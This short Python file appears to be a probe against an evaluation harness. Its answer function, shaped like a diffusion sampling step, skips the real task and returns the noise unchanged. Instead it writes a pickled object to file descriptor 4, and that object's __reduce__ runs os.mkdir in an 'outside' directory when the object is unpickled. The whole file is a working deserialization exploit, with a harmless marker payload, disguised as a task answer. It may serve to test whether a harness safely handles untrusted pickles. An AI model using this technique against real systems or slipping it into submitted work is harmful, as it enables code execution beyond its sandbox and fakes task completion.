"""Sends a pickle that runs a program when it is read."""
import os
import pickle
import struct


class Payload:
    def __reduce__(self):
        return os.mkdir, (TARGETS["outside"] + "/unpickled",)


def answer(right, original_samples, noise, timesteps):
    body = pickle.dumps(Payload())
    os.write(4, struct.pack("<I", len(body)) + body)
    return noise
